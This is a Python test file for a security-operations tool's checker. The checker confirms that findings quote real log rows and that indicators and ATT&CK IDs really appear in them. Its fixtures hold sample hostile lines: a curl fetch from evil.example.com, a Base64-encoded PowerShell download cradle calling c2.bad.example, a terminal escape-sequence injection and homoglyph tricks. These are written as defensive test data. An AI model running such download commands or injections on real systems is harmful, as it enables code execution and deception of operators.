"""Findings are believed only as far as the rows say so."""

import base64
import datetime as dt
import hashlib
import re
from dataclasses import replace
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from soc_tui.analysts.grounding.check_finding import ground
from soc_tui.analysts.grounding.cited_rows import Searched, refang
from soc_tui.analysts.packing.cell_text import cell_text, escape
from soc_tui.model.catalog import Column, KqlType
from soc_tui.model.finding import (
    Checks,
    Confidence,
    Evidence,
    Finding,
    Ioc,
    Mitre,
    Quotation,
    Severity,
    TechniqueCheck,
)
from soc_tui.model.rows import Rows, row_id

COLUMNS = (
    Column("Timestamp", KqlType.DATETIME),
    Column("DeviceName", KqlType.STRING),
    Column("CommandLine", KqlType.STRING),
    Column("RemoteIP", KqlType.STRING),
    Column("EventId", KqlType.LONG),
    Column("Details", KqlType.DYNAMIC),
)
TABLE = pa.table(
    {
        "Timestamp": pa.array(
            [dt.datetime(2026, 11, 24, 10, 0, i, 500_000, dt.UTC) for i in range(3)],
            pa.timestamp("us", "UTC"),
        ),
        "DeviceName": ["ws-01", "ws-02", "dc-01"],
        "CommandLine": ["cmd /c whoami", "curl http://evil.example.com/a\x1b[2J", "x\ny"],
        "RemoteIP": ["10.0.0.15", "203.0.113.7", None],
        "EventId": pa.array([4624, 4688, None], pa.int64()),
        "Details": ['{"path":"C:\\\\Temp\\\\a.exe"}', "{}", None],
    }
)
ROWS = Rows(TABLE, COLUMNS)


def finding(
    *quotations: tuple[str, str, str], iocs: tuple[Ioc, ...] = (), mitre: tuple[Mitre, ...] = ()
) -> Finding:
    evidence = tuple(Evidence(row, (Quotation(column, text),)) for row, column, text in quotations)
    return Finding(
        "t", "d", Confidence.HIGH, Severity.HIGH, evidence=evidence, iocs=iocs, mitre=mitre
    )


HONEST = ("r1", "CommandLine", "whoami")


@pytest.mark.parametrize(
    "quotation",
    [
        HONEST,
        ("r1", "CommandLine", "cmd /c whoami"),
        ("r1", "Timestamp", "2026-11-24T10:00:00.5Z"),
        ("r1", "Timestamp", "2026-11-24T10:00"),
        ("r1", "EventId", "4624"),
        ("r1", "CommandLine", "cmd /c"),
        ("r2", "CommandLine", "example.com/a⟦U+001B⟧[2J"),
        ("r2", "CommandLine", "example.com/a\x1b[2J"),
        ("r3", "CommandLine", "x⏎y"),
        ("r3", "CommandLine", "x\ny"),
        ("r1", "Details", "C:\\Temp\\a.exe"),
        ("r1", "Details", "C:\\\\Temp\\\\a.exe"),
    ],
)
def test_true_quotations_ground_a_finding(quotation: tuple[str, str, str]) -> None:
    grounded = ground(finding(quotation), ROWS)
    assert grounded.grounded, grounded.doubts
    assert grounded.doubts == ()


@pytest.mark.parametrize(
    ("quotation", "doubt"),
    [
        (("r4", "DeviceName", "ws-01"), "does not exist"),
        (("r0", "DeviceName", "ws-01"), "does not exist"),
        (("r01", "DeviceName", "ws-01"), "does not exist"),
        (("r1-r2", "DeviceName", "ws-01"), "does not exist"),
        (("r2", "DeviceName", "ws-01"), "is not in"),
        (("r1", "devicename", "ws-01"), "no column"),
        (("r1", "CommandLine", "WHOAMI"), "letter case or spaces differ"),
        (("r1", "CommandLine", "cmd  /c"), "letter case or spaces differ"),
        (("r1", "CommandLine", "whoam"), "or a word is cut"),
        (("r1", "CommandLine", "whоami"), "CYRILLIC SMALL LETTER O"),
        (("r1", "RemoteIP", "10.0.0.1"), "or a word is cut"),
        (("r1", "RemoteIP", "0.0.15"), "or a word is cut"),
        (("r1", "DeviceName", "10.0.0.15"), "but in «RemoteIP»"),
        (("r1", "Timestamp", "10:00"), "is not in"),
        (("r1", "Timestamp", "2026-11-24T10:00:0"), "is not in"),
        (("r1", "CommandLine", ""), "empty"),
        (("r1", "CommandLine", " "), "empty"),
        (("r1", "CommandLine", "c"), "too short"),
        (("r1", "EventId", "462"), "is not in"),
        (("r3", "RemoteIP", "null"), "is not in"),
    ],
)
def test_false_quotations_are_doubted(quotation: tuple[str, str, str], doubt: str) -> None:
    grounded = ground(finding(quotation), ROWS)
    assert not grounded.grounded
    assert len(grounded.doubts) == 1
    assert doubt in grounded.doubts[0]


def test_one_lie_among_true_quotations_is_enough() -> None:
    grounded = ground(finding(HONEST, ("r2", "CommandLine", "mimikatz")), ROWS)
    assert not grounded.grounded
    assert "mimikatz" in grounded.doubts[0]


def test_no_evidence_and_no_quotation_prove_nothing() -> None:
    assert "cites no row" in ground(finding(), ROWS).doubts[0]
    bare = replace(finding(), evidence=(Evidence("r1"),))
    assert "without a quote" in ground(bare, ROWS).doubts[0]


def test_earlier_word_of_the_finding_itself_counts_for_nothing() -> None:
    boastful = replace(finding(), grounded=True)
    assert not ground(boastful, ROWS).grounded


@pytest.mark.parametrize(
    "value",
    ["203.0.113.7", "203[.]0[.]113[.]7", "EVIL.example.com", "hxxp://evil[.]example[.]com/a",
     "example.com", "hxxp[://]evil(dot)example.com/a", "ws-02"],
)  # fmt: skip
def test_indicators_stand_in_a_cited_row(value: str) -> None:
    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(Ioc("any", value),)), ROWS)
    assert grounded.grounded, grounded.doubts


@pytest.mark.parametrize(
    "value", ["2001:db8::a", "2001:DB8:0:0:0:0:0:A", "2001:0db8:0000:0000:0000:0000:0000:000a"]
)
def test_an_ipv6_address_is_the_same_however_it_is_written(value: str) -> None:
    columns = (Column("RemoteIP", KqlType.STRING),)
    for cell in ("2001:db8::a", "2001:0db8:0000:0000:0000:0000:0000:000A", "2001:db8:0:0:0:0:0:a"):
        quoted = finding(("r1", "RemoteIP", cell), iocs=(Ioc("ip", value), Ioc("ipv6", cell)))
        grounded = ground(quoted, Rows(pa.table({"RemoteIP": [cell]}), columns))
        assert grounded.grounded, grounded.doubts


@pytest.mark.parametrize(
    "value", ["10.0.0.15", "203.0.113.77", "03.0.113.7", "3.0.113.7", "0.113.7", "evil.example",
              "vil.example.com", "ws-0", "", " "]
)  # fmt: skip
def test_indicators_from_elsewhere_are_doubted(value: str) -> None:
    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(Ioc("any", value),)), ROWS)
    assert not grounded.grounded
    assert "indicator" in grounded.doubts[0]


def test_windows_path_in_json_is_found_as_indicator() -> None:
    path = Ioc("path", "c:\\temp\\A.exe")
    assert ground(finding(HONEST, iocs=(path,)), ROWS).grounded


def test_attack_ids_are_filled_from_the_list_or_doubted() -> None:
    good = ground(finding(HONEST, mitre=(Mitre("", "T1059", "T1059.003"),)), ROWS)
    assert good.grounded
    assert good.mitre[0].name == "Windows Command Shell"
    bad = ground(finding(HONEST, mitre=(Mitre("Execution", "T9999"),)), ROWS)
    assert not bad.grounded
    assert "T9999 is not in MITRE ATT&CK" in bad.doubts[0]


def test_doubts_show_no_escape_sequence() -> None:
    grounded = ground(finding(("r1", "x\x1b]0;pwned\x07", "[red]\u202e" + "y" * 5000)), ROWS)
    text = "".join(grounded.doubts)
    assert text == escape(text, keep_marks=True)
    assert len(text) < 300


@pytest.mark.parametrize("part", ["203.0.113.", ".0.113.7"])
def test_an_address_cut_at_a_dot_is_no_quotation(part: str) -> None:
    grounded = ground(finding(("r2", "RemoteIP", part)), ROWS)
    assert not grounded.grounded
    assert "is not in" in grounded.doubts[0]


@settings(deadline=None)
@given(
    row=st.integers(1, 3),
    column=st.sampled_from(COLUMNS),
    quote=st.one_of(
        st.text(max_size=20), st.sampled_from(["ws-0", "4624", "Temp", "evil", "203."])
    ),
)
def test_a_grounded_quotation_is_always_in_its_cell(row: int, column: Column, quote: str) -> None:
    grounded = ground(finding((row_id(row - 1), column.name, quote)), ROWS)
    cell = cell_text(TABLE.column(column.name)[row - 1].as_py(), column.type)
    if grounded.grounded:
        assert quote.strip()
        assert escape(quote) in cell or escape(quote, keep_marks=True) in cell
    elif len(quote.strip()) >= 3 and column.type is KqlType.STRING:
        assert quote not in re.split(r"\W+", cell)


@settings(deadline=None)
@given(st.text(max_size=30), st.text(max_size=30), st.text(max_size=30), st.text(max_size=30))
def test_invented_things_never_ground(row: str, column: str, text: str, ioc: str) -> None:
    """Whatever is cited, the cells of these rows hold no snowman."""
    lies = [
        finding((row, column, text + "☃")),
        finding(HONEST, ("r1", column + "☃", text)),
        finding(HONEST, (row + "☃", "DeviceName", "ws-01")),
        finding(HONEST, iocs=(Ioc("other", ioc + "☃"),)),
    ]
    assert not any(ground(lie, ROWS).grounded for lie in lies)


BASE64 = base64.b64encode(
    "IEX (New-Object Net.WebClient) 'http://c2.bad.example/a'".encode("utf-16-le")
)
LONG = Rows(
    pa.table(
        {
            "DeviceName": ["ws-01", "ws-01"],
            "CommandLine": [
                f"powershell -enc {BASE64.decode()} " + "x" * 4_000 + " end of it",
                '{"sha1":"' + "a" * 40 + '"}',
            ],
        }
    ),
    (Column("DeviceName", KqlType.STRING), Column("CommandLine", KqlType.STRING)),
)


@pytest.mark.parametrize(
    ("quote", "good"),
    [
        (f"powershell -enc {BASE64.decode()[:30]}", True),  # Base64 is long: cut where it suits
        ("powershell -enc", True),
        ("powershell -e", False),
        ("x" * 200, True),
        ("powershell -enc ⟦cut 4,000 characters⟧ end of it", True),
        ("powershell -enc ⟦cut 4,000 characters⟧ beginning of it", False),
        ("⟦cut 4,000 characters⟧", False),
    ],
)
def test_long_cells_may_be_quoted_in_part(quote: str, good: bool) -> None:
    grounded = ground(finding(("r1", "CommandLine", quote)), LONG)
    assert grounded.grounded is good, grounded.doubts


def test_part_of_a_hash_is_no_quotation_and_no_indicator() -> None:
    assert not ground(finding(("r2", "CommandLine", "a" * 32)), LONG).grounded
    honest = ("r2", "DeviceName", "ws-01")
    assert ground(finding(honest, iocs=(Ioc("sha1", "A" * 40),)), LONG).grounded
    assert not ground(finding(honest, iocs=(Ioc("md5", "a" * 32),)), LONG).grounded


def test_what_a_cell_holds_as_base64_stands_in_it() -> None:
    honest = ("r1", "CommandLine", "powershell -enc")
    assert ground(finding(honest, iocs=(Ioc("domain", "c2.bad.example"),)), LONG).grounded
    assert not ground(finding(honest, iocs=(Ioc("domain", "c2.bad.exam"),)), LONG).grounded


@pytest.mark.parametrize(
    ("ioc", "doubt"),
    [
        (Ioc("ip", "ws-02"), "is not a valid «ip»"),
        (Ioc("sha256", "ws-02"), "is not a valid «sha256»"),
        (Ioc("other", "."), "too short"),
        (Ioc("other", "7"), "too short"),
        (Ioc("host", "wſ-02"), "is in no cited row"),  # a long s, which `re` takes for an s
    ],
)
def test_indicators_that_prove_nothing_are_doubted(ioc: Ioc, doubt: str) -> None:
    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(ioc,)), ROWS)
    assert not grounded.grounded
    assert doubt in grounded.doubts[0]


def test_more_indicators_than_can_be_checked_are_doubted() -> None:
    many = (Ioc("host", "ws-01"),) * 1_001
    assert ground(finding(HONEST, iocs=many), ROWS).doubts == (
        "It has 1,001 indicators, too many to check.",
    )


@pytest.mark.parametrize(
    ("value", "text", "good"),
    [
        ("STRASSE", "strasse", True),
        ("MÜLLER", "herr müller", True),
        ("İx-1", "İx-1", True),  # lower case of the first letter is two characters
        ("kelvin", "\u212aelvin", False),  # the Kelvin sign
        ("a.b", "x-a.b", False),
        ("a.b", "x a.b.", True),
        ("1.2.3.4", "0.1.2.3.4", False),
        ("-x", "y-x", True),
        ("", "abc", False),
        ("fe80::1", "fe80::1:2", False),
        ("db8::1", "2001:db8::1", False),
        ("2001:db8::", "2001:db8::1", False),
        ("::1", "fe80::1", False),
        ("00:1a:2b", "00:1a:2b:3c", False),
        ("fe80::1", "src:[fe80::1]:443 fe80::1%eth0", True),
        ("FE80::1", "ip:fe80::1: up", True),
        ("::ffff:10.0.0.1", "::ffff:10.0.0.1", True),
    ],
)
def test_words_of_their_own(value: str, text: str, good: bool) -> None:
    assert Searched(text).holds(value) is good


def misquoted(cell: str) -> st.SearchStrategy[str]:
    """The cell's text as it does not stand there."""
    ways = (
        cell[:12] if cell.endswith("Z") else cell[:-1],  # a time may end after any whole field
        cell[1:],
        cell.swapcase(),
        f"{cell[:3]} {cell[3:]}",
        f"{cell}x",
        cell.translate(str.maketrans("aeocpw10", "аеосрѡ١٠")),
        "",
        "\t",
    )
    words = r"(?<![\w.-])(?:{})(?![\w.-])"
    return st.sampled_from(
        [
            text
            for text in ways
            if not text.strip() or not re.search(words.format(re.escape(text)), cell)
        ]
    )


@st.composite
def lies(draw: st.DrawFn) -> tuple[str, Finding]:
    """What kind of lie, and an otherwise honest finding that has it."""
    row = draw(st.integers(0, 1))
    column = draw(st.sampled_from([one for one in COLUMNS if one.type is not KqlType.DYNAMIC]))
    cell = cell_text(TABLE.column(column.name)[row].as_py(), column.type)
    address = "198.51." + ".".join(str(draw(st.integers(1, 250))) for _ in range(2))
    hex_digits = hashlib.md5(draw(st.binary(max_size=4))).hexdigest()
    missing, more = f"r{draw(st.integers(4, 99))}", f"10.0.0.15{draw(st.integers(0, 9))}"
    honest, here, there = finding(HONEST), row_id(row), row_id(1 - row)
    kinds = {
        "row that is not there": finding(HONEST, (missing, column.name, cell)),
        "cell of another row": finding((there, column.name, cell)),
        "cell of another column": finding((here, "Details", cell)),
        "misquoted": finding((here, column.name, draw(misquoted(cell)))),
        "no quotation": replace(honest, evidence=(Evidence("r1"),)),
        "indicator": finding(HONEST, iocs=(Ioc("ip", address),)),
        "longer indicator": finding(HONEST, iocs=(Ioc("ip", more),)),
        "shorter indicator": finding(HONEST, iocs=(Ioc("ip", "10.0.0.1"),)),
        "address in the text": replace(honest, description=f"It called {address}."),
        "hash in the title": replace(honest, title=f"Malware {hex_digits}"),
        "account": replace(honest, title="Sign-in of mallory@corp.example.com"),
        "domain": replace(honest, description="It fetched bad.example.com/x."),
        "host of another row": replace(honest, description="dc-01 was reached."),
        "invented host": replace(honest, description="On host srv-99 it ran."),
        "advice": replace(honest, recommendations=(f"Block {address}.",)),
        "count": replace(honest, description=f"{draw(st.integers(5000, 10**6)):,} failed logons."),
        "technique": finding(HONEST, mitre=(Mitre("", f"T{draw(st.integers(3000, 9999))}"),)),
    }  # fmt: skip
    kind = draw(st.sampled_from(sorted(kinds)))
    return kind, kinds[kind]


@settings(deadline=None, max_examples=300)
@given(lies())
def test_a_finding_that_lies_in_any_way_is_unverified_with_a_reason(
    lie: tuple[str, Finding],
) -> None:
    kind, told = lie
    grounded = ground(told, ROWS)
    assert not grounded.grounded, kind
    assert grounded.doubts and all(doubt.endswith(".") for doubt in grounded.doubts)


@settings(deadline=None)
@given(st.from_regex(r"[a-z]{1,8}(\.[a-z]{1,8}){1,3}", fullmatch=True))
def test_refanging_undoes_defanging(domain: str) -> None:
    url = f"http://{domain}/x"
    assert refang(url) == url
    assert refang(f"hxxp[://]{domain.replace('.', '[.]')}/x") == url
    assert refang(f"hxxps://{domain.replace('.', '(dot)')}") == f"https://{domain}"


@pytest.mark.parametrize(
    ("changes", "checks"),
    [
        ({}, Checks(rows=True, words=True, technique=TechniqueCheck.KNOWN)),
        ({"evidence": ()}, Checks(rows=False, words=True, technique=TechniqueCheck.KNOWN)),
        (
            {"iocs": (Ioc("ip", "198.51.100.1"),)},
            Checks(rows=True, words=False, technique=TechniqueCheck.KNOWN),
        ),
        (
            {"mitre": (Mitre("Execution", "T9999"),)},
            Checks(rows=True, words=True, technique=TechniqueCheck.DOUBTED),
        ),
    ],
)
def test_rows_words_and_technique_are_told_apart(changes: dict[str, Any], checks: Checks) -> None:
    checked = ground(replace(finding(HONEST), **changes), ROWS)
    assert checked.checks == checks
    assert checked.grounded is checks.hold is not bool(checked.doubts)


@pytest.mark.parametrize(
    "odd", [Ioc("domain", "ws-02"), Ioc("ip", "evil.example.com"), Ioc("sha256", "ws-02")]
)
def test_an_indicator_of_another_type_leaves_the_list_of_indicators_and_is_told(odd: Ioc) -> None:
    good = Ioc("url", "http://evil.example.com/a")
    row = ("r2", "CommandLine", "curl")
    checked = ground(finding(row, iocs=(good, odd)), ROWS)
    assert (checked.iocs, checked.untyped) == ((good,), (odd,))
    assert any(odd.value in doubt and "left out" in doubt for doubt in checked.doubts)
    assert not checked.grounded
    assert ground(checked, ROWS) == checked, "a replay says the same"
